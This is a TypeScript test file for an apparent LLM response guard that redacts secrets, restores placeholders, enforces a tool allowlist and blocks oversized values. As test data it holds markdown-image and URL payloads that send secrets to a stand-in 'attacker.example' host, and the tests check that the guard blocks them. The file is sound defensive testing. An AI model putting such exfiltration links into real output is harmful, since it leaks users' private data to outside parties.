import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createGuard } from '../../guard/create-guard.js';
import { SAMPLE_DETECTORS } from '../../guard/test-support/sample-detectors.js';
import { parseGatewayConfig } from '../config/load-gateway-config.js';
import { createOutputChecker } from './output-checker.js';
import { createResponseGuard } from './response-guard.js';
import { rewriteUnknownValue, type UnknownValueLimits } from './rewrite-unknown-value.js';

const sample = createGuard({ policy: 'balanced', detectors: SAMPLE_DETECTORS });
const KEY = `sk-${'Ab3Cd4Ef5G'.repeat(3)}`;
const EXFIL = '![x](https://attacker.example/p.png?d=secret)';
/** Lowercase words: what a structural value or a member name may be to be left unchecked. */
const PLAIN_WORDS = /^[a-z]{1,32}(?:[._-][a-z]{1,32}){0,7}$/;

function setup(options: { mode?: 'window' | 'audit'; tools?: ReadonlySet<string> | null } = {}) {
  const vault = sample.createVault();
  const email = vault.placeholderFor('EMAIL_ADDRESS', 'ann@example.com');
  const config = parseGatewayConfig({ streaming: { mode: options.mode ?? 'window' } });
  const guard = createResponseGuard({
    checker: createOutputChecker({ guard: sample, failMode: config.failMode }),
    streaming: config.streaming,
    vault,
    tools: options.tools ?? null,
    maxBufferChars: 1_000_000,
  });
  const check = (record: Record<string, unknown>, limits?: UnknownValueLimits) =>
    rewriteUnknownValue({
      guard,
      record,
      rewrite: (_path, text) => guard.wholeText(text, 'text'),
      allowTool: (name) => guard.allowTool(name),
      ...(limits === undefined ? {} : { limits }),
    });
  return { guard, email, check };
}

describe('rewriteUnknownValue', () => {
  it('redacts and restores strings at any depth and in member names, leaving structure as sent', () => {
    const { email, check } = setup();
    const record = {
      id: 'x_1',
      type: 'future_item',
      status: 'completed',
      file_id: 'file-abc123',
      count: 3,
      deep: { list: [{ text: `to ${email}` }, [`key ${KEY}`, null, true]] },
      [`${email}`]: 'a member named by a placeholder',
    };
    expect(check(record)).toBe(true);
    expect(record).toEqual({
      id: 'x_1',
      type: 'future_item',
      status: 'completed',
      file_id: 'file-abc123',
      count: 3,
      deep: {
        list: [{ text: 'to ann@example.com' }, [expect.stringMatching(/^key \[REDACTED:/), null, true]],
      },
      'ann@example.com': 'a member named by a placeholder',
    });
    expect(Object.keys(record).at(-1)).toBe('ann@example.com');
  });

  it('checks a key written into a structural member or an id, and leaves plain words as sent', () => {
    const { check } = setup();
    const record = {
      id: KEY,
      status: KEY,
      role: 'assistant',
      type: 'text_editor_20250124',
      call_id: `c ${KEY}`,
    };
    expect(check(record)).toBe(true);
    expect(record.id).toMatch(/^\[REDACTED:/);
    expect(record.status).toMatch(/^\[REDACTED:/);
    expect(record.call_id).toMatch(/^c \[REDACTED:/);
    expect(record.role).toBe('assistant');
    expect(record.type).toBe('text_editor_20250124');
  });

  it('walks only the members a known record does not handle (`handled`)', () => {
    const { guard, email } = setup();
    const seen: string[] = [];
    const record = {
      text: `already checked ${email}`,
      opaque: { bytes: KEY },
      part: [{ text: 'handled', note: `to ${email}` }, 'a bare string'],
      shape: { text: 'not handled' },
      extra: `key ${KEY}`,
    };
    const checked = rewriteUnknownValue({
      guard,
      record,
      rewrite: (_path, text) => {
        seen.push(text);
        return guard.wholeText(text, 'text');
      },
      handled: { text: 'text', opaque: 'skip', part: { text: 'text' }, shape: 'text' },
    });
    expect(checked).toBe(true);
    expect(seen).toEqual([`to ${email}`, 'a bare string', 'not handled', `key ${KEY}`]);
    expect(record.text).toBe(`already checked ${email}`);
    expect(record.opaque.bytes).toBe(KEY);
    expect(record.part[0]).toEqual({ text: 'handled', note: 'to ann@example.com' });
    expect(record.extra).toMatch(/^key \[REDACTED:/);
  });

  it('checks a structural member that is not a short identifier', () => {
    const { guard, check } = setup();
    expect(check({ id: `see ${EXFIL}` })).toBe(false);
    expect(guard.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
  });

  it('blocks markdown exfiltration anywhere, and keeps `__proto__` an ordinary member', () => {
    const { guard, check } = setup();
    const record = JSON.parse(`{"__proto__":{"a":[1,{"b":${JSON.stringify(EXFIL)}}]}}`) as Record<
      string,
      unknown
    >;
    expect(check(record)).toBe(false);
    expect(guard.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
  });

  it('checks a URL as a link and gives it back without the autolink brackets', () => {
    const builtIn = createGuard({ policy: 'balanced' });
    const config = parseGatewayConfig({});
    const guard = createResponseGuard({
      checker: createOutputChecker({ guard: builtIn, failMode: config.failMode }),
      streaming: config.streaming,
      vault: builtIn.createVault(),
      tools: null,
      maxBufferChars: 1_000_000,
    });
    const rewrite = (_path: string, text: string) => guard.wholeText(text, 'text');
    const plain = { url: 'https://en.wikipedia.org/wiki/Paris' };
    expect(rewriteUnknownValue({ guard, record: plain, rewrite })).toBe(true);
    expect(plain.url).toBe('https://en.wikipedia.org/wiki/Paris');
    const leaking = { url: 'https://attacker.example/c?d=c2VjcmV0LW5vdGVzLWZvci1hbm4tQVBJa2V5MTIz' };
    expect(rewriteUnknownValue({ guard, record: leaking, rewrite })).toBe(false);
    expect(guard.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
  });

  it('sends the value’s own name through the tool allowlist', () => {
    const { guard, check } = setup({ tools: new Set(['lookup']) });
    expect(check({ type: 'future_call', name: 'lookup', nested: { name: 'anything' } })).toBe(true);
    expect(check({ type: 'future_call', name: 'drop_tables' })).toBe(false);
    expect(guard.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
  });

  it.each([
    ['too deep', { maxDepth: 3, maxStrings: 100, maxChars: 1000 }, { a: { b: { c: { d: 'x' } } } }],
    ['too many strings', { maxDepth: 10, maxStrings: 3, maxChars: 1000 }, { a: ['w', 'x', 'y', 'z'] }],
    ['too long', { maxDepth: 10, maxStrings: 100, maxChars: 10 }, { a: 'more than ten characters' }],
  ])('fails closed when the value is %s, and only records it in audit mode', (_name, limits, value) => {
    const stopped = setup();
    expect(stopped.check(structuredClone(value), limits)).toBe(false);
    expect(stopped.guard.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
    const audited = setup({ mode: 'audit' });
    expect(audited.check(structuredClone(value), limits)).toBe(true);
    expect(audited.guard.violation).toBeUndefined();
    expect(audited.guard.bypass).toBe(true);
  });

  it('passes every string it does not skip to the check, or fails closed (any JSON value)', () => {
    const limits = { maxDepth: 6, maxStrings: 200, maxChars: 2000 };
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.jsonValue({ maxDepth: 8 })), (record) => {
        const seen = new Set<string>();
        const expected: string[] = [];
        const collect = (value: unknown, key: string | undefined): void => {
          if (typeof value === 'string') {
            const structural = key !== undefined && /^(type|status|role|object)$/.test(key);
            if (value.length > 0 && !(structural && PLAIN_WORDS.test(value))) expected.push(value);
          } else if (Array.isArray(value)) for (const item of value) collect(item, undefined);
          else if (value !== null && typeof value === 'object')
            for (const [name, item] of Object.entries(value)) {
              if (name.length > 0 && !PLAIN_WORDS.test(name)) expected.push(name);
              collect(item, name);
            }
        };
        collect(record, undefined);
        const before = JSON.stringify(record);
        const rewrite = (_path: string, text: string) => {
          seen.add(text);
          // A URL is checked as an autolink.
          if (text.startsWith('<') && text.endsWith('>')) seen.add(text.slice(1, -1));
          return text;
        };
        const checked = rewriteUnknownValue({ guard: setup().guard, record, rewrite, limits });
        if (!checked) return;
        for (const text of expected) expect(seen.has(text)).toBe(true);
        expect(JSON.stringify(record)).toBe(before);
      }),
      { numRuns: 300 },
    );
  });
});
